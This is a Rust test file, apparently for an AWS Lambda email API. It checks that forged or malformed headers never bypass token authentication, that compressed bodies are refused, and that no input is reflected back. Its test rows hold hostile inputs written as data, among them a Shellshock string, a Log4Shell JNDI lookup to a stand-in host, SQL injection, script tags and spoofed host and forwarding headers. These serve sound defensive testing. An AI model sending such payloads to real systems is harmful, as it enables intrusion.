//! Headers never replace the token or the body.

use super::good;
use crate::harness::{Ours, Setup, TOKEN, Watch, events};
use base64::{Engine, prelude::BASE64_STANDARD};
use serde_json::{Value, json};

/// The load balancer's event with lists of values, and its body in base64.
fn in_the_other_shape(event: &Value) -> Value {
    let mut other = event.clone();
    for (name, multi) in
        [("headers", "multiValueHeaders"), ("queryStringParameters", "multiValueQueryStringParameters")]
    {
        let values = other.as_object_mut().unwrap().remove(name).unwrap();
        let lists = values.as_object().unwrap().iter().map(|(name, value)| (name.clone(), json!([value])));
        other[multi] = lists.collect();
    }
    other["body"] = json!(BASE64_STANDARD.encode(event["body"].as_str().unwrap()));
    other["isBase64Encoded"] = json!(true);
    other
}

#[tokio::test]
async fn no_header_opens_anything_and_only_content_encoding_closes() {
    let (good, stranger) = (good(), good().replace(TOKEN, "wrong"));
    let mut rows: Vec<(String, &str, u16)> = Vec::new();
    let mut row = |headers: &str, body, expected| rows.push((headers.to_owned(), body, expected));
    for headers in [
        format!("authorization: Bearer {TOKEN}"),
        format!("token: {TOKEN}"),
        format!("x-api-key: {TOKEN}"),
        format!("cookie: token={TOKEN}"),
        "x-forwarded-for: 127.0.0.1\nx-real-ip: 127.0.0.1\nforwarded: for=127.0.0.1".to_owned(),
        "x-original-url: /health\nx-rewrite-url: /health".to_owned(),
        "x-amz-security-token: evil\nx-amzn-oidc-data: evil".to_owned(),
        "lambda-runtime-aws-request-id: evil\nlambda-runtime-function-error-type: evil".to_owned(),
    ] {
        row(&headers, &stranger, 403);
        row(&headers, &good, 200);
    }
    for headers in [
        "host: evil.example",
        "host: a:99999",
        "host: [",
        "host: evil@127.0.0.1",
        "host: %00",
        "host: ../..",
        "host: \u{e9}",
        "host: a, b",
        "host: http://x/",
        "x-forwarded-host: evil.example\nx-forwarded-port: 99999\nx-forwarded-proto: gopher",
        "x-forwarded-for: \u{e9}, ' OR 1=1 --, <script>",
        "x-forwarded-for: ,,,,,",
        "x-amzn-trace-id: Root=1-evil;Parent=evil;Sampled=evil;;;=",
        "x-amzn-trace-id: \u{e9}",
        "x-amzn-trace-id: Self=",
        "content-type:",
        "content-type: ;;;",
        "content-type: application/json, text/html",
        "content-type: text/plain\ncontent-type: image/png",
        "content-type: \u{e9}",
        "content-type: multipart/form-data; boundary=x",
        "content-type: application/x-www-form-urlencoded",
        "content-type: application/json; charset=\"evil",
        "content-encoding:",
        "content-encoding: identity",
        "Content-Encoding: Identity",
        "content-encoding: , ,identity,",
        "accept: image/png",
        "accept-encoding: gzip;q=0, *;q=0",
        "te: trailers",
        "trailer: content-length",
        "connection: keep-alive, te, host",
        "connection: content-length",
        "keep-alive: timeout=99999",
        "upgrade: h2c\nhttp2-settings: x",
        "expect: nonsense",
        "range: bytes=0-0",
        "if-match: x\nif-none-match: *",
        "if-modified-since: evil",
        "proxy: http://evil.example",
        "proxy-connection: keep-alive",
        "transfer-encoding-x: chunked",
        "user-agent: () { :; }; echo evil",
        "user-agent: ${jndi:ldap://evil.example/a}",
        "referer: javascript:evil",
        "origin: null",
        "x-odd_name: dropped",
        "set-cookie: evil=1",
        "a: ",
        "a:b:c",
        "prefer: respond-async",
        "x-amz-invocation-type: Event",
        "x-amz-target: AmazonSQS.PurgeQueue",
    ] {
        row(headers, &good, 200);
    }
    // A body is JSON, whatever its header says.
    row("content-transfer-encoding: base64", "e30=", 400);
    // A compressed body is refused before it is read, so the token plays no part.
    for coding in [
        "gzip",
        "GZIP",
        "br",
        "deflate",
        "zstd",
        "x-evil",
        "gzip, gzip",
        "identity, gzip",
        ",gzip",
        "gzip;q=0",
        "*",
    ] {
        for name in ["content-encoding", "Content-Encoding"] {
            for body in [&good, &stranger, "\u{1f}\u{8b}\u{8}", "{", ""] {
                row(&format!("{name}: {coding}"), body, 415);
            }
        }
    }
    let form = format!("token={TOKEN}");
    row("content-type: application/x-www-form-urlencoded", &form, 400);
    let (long, many) = ("y".repeat(16_000), (0..900).map(|n| format!("x-{n}: y")).collect::<Vec<_>>());
    row(&format!("x: {long}"), &good, 200);
    row(&format!("x-{long}: y"), &good, 200);
    row(&many.join("\n"), &good, 200);

    let system = Ours::start_with(Setup::usual().unpolled()).await;
    let (watch, mut accepted) = (Watch::over(&system), 0);
    for (headers, body, expected) in rows {
        let mut lines = vec![("host", "a")];
        lines.extend(
            headers.lines().map(|line| line.split_once(": ").unwrap_or((line.trim_end_matches(':'), ""))),
        );
        let [alb, http_api] = events("POST", "/api/email", &lines, body);
        for event in [in_the_other_shape(&alb), alb, http_api] {
            let answer = system.invoke_api(&event).await;
            assert_eq!(answer.status, expected, "{headers:.200}: {answer:?}");
            // No input comes back, where another site's page could show it.
            let echoed = ["evil", TOKEN].iter().any(|word| format!("{answer:?}").contains(word));
            assert!(!echoed, "{headers:.200}: {answer:?}");
            accepted += usize::from(answer.status == 200);
        }
    }
    watch.hold(&system, accepted).await;
}
